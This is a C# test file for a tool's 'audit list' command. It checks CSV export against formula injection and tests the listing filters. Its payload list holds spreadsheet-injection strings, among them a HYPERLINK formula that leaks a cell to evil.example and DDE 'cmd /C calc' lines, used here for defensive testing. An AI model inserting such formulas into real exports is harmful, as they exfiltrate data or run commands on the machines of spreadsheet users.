using Waymark.EndToEnd.Running;

namespace Waymark.EndToEnd.Commands;

/// <summary>The table of who received what: filtered, and safe to open in a spreadsheet.</summary>
public sealed class AuditListTests
{
    /// <summary>First characters that OWASP ASVS 1.2.10 names, carriage return and line feed, and the full-width forms that spreadsheets read alike.</summary>
    private static readonly string[] Payloads =
    [
        "=1+1", "=HYPERLINK(\"https://evil.example?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1",
        "＝1+1", "＋1", "－1", "＠SUM(1)", "  =1+1", "\"=1+1", "a;=1+1", "a,\"=1+1\"", "Jane \"J\" Doe, Dr.", "Ελένη Παπαδάκη", "plain",
    ];

    [Fact]
    public void CsvHoldsEveryNameAndNoFormula()
    {
        using var sandbox = Sandbox.Empty();
        SomeLedger.Record(sandbox, [.. Payloads.Select((name, i) => ("acme", name, $"p{i}@acme.example", "2026-11-20"))]);
        var run = Tool.Start(sandbox, "audit", "list", "--csv").Expect(0);
        Assert.Equal(Payloads.Length + 2, run.Output.Split("\"\r\n").Length - 1);
        var file = sandbox.Write("list.csv", run.Output);

        // Read again by a reader that is not ours, strictly; then as a spreadsheet would look at it.
        const string Script = "import csv, json, sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8'), strict=True))))";
        var rows = OtherProgram.Start("python3", ["-c", Script, file]).Expect(0).Json.EnumerateArray().Select(row => row.EnumerateArray().Select(cell => cell.GetString()!).ToArray()).ToArray();
        Assert.All(rows, row => Assert.Equal(14, row.Length));
        Assert.All(rows.SelectMany(row => row), cell => Assert.DoesNotMatch(@"\A *[=+\-@\t\r\n\0＝＋－＠]", cell));
        var column = Array.IndexOf(rows[0], "name");
        Assert.Equal(Payloads, rows[2..].Select(row => row[column].StartsWith('\'') ? row[column][1..] : row[column]));
    }

    [Theory]
    [InlineData(new[] { "--customer", "acme" }, new long[] { 1, 3 })]
    [InlineData(new[] { "--recipient", "ZOE@halden.example" }, new long[] { 2 })]
    [InlineData(new[] { "--since", "2026-11-19" }, new long[] { 2, 3 })]
    [InlineData(new[] { "--until", "2026-11-18" }, new long[] { 0, 1 })]
    [InlineData(new[] { "--since", "2026-11-18", "--until", "2026-11-19", "--customer", "halden" }, new long[] { 2 })]
    [InlineData(new[] { "--date", "2026-11-20" }, new long[] { 3 })]
    [InlineData(new[] { "--version", "n2d7" }, new long[] { 2 })]
    [InlineData(new[] { "--customer", "nobody" }, new long[0])]
    public void FiltersNarrowTheListAndKeepTheLogsSize(string[] filters, long[] expected)
    {
        using var sandbox = Sandbox.Empty();
        SomeLedger.Record(sandbox, ("acme", "Jane", "jane@acme.example", "2026-11-18"), ("halden", "Zoë", "zoe@halden.example", "2026-11-19"), ("acme", "Omar", "omar@acme.example", "2026-11-20"));
        var answer = Tool.Start(sandbox, ["audit", "list", "--json", .. filters]).Expect(0).Json;
        Assert.Equal(["size", "root", "entries"], answer.EnumerateObject().Select(property => property.Name));
        Assert.Equal(4, answer.GetProperty("size").GetInt32());
        Assert.Equal(expected, answer.GetProperty("entries").EnumerateArray().Select(entry => entry.GetProperty("index").GetInt64()));
        if (expected is [_, .., var last] && last > 0)
        {
            Assert.Equal(
                ["index", "kind", "time", "id", "customer", "recipient", "version", "files"],
                answer.GetProperty("entries")[1].EnumerateObject().Select(property => property.Name));
        }
    }

    [Theory]
    [InlineData("--csv", "--json")]
    [InlineData("--since", "yesterday")]
    public void AListThatCannotBeMadeIsAWrongCommandLine(params string[] options)
    {
        using var sandbox = Sandbox.Empty();
        Tool.Start(sandbox, ["audit", "list", .. options]).Expect(2);
    }
}
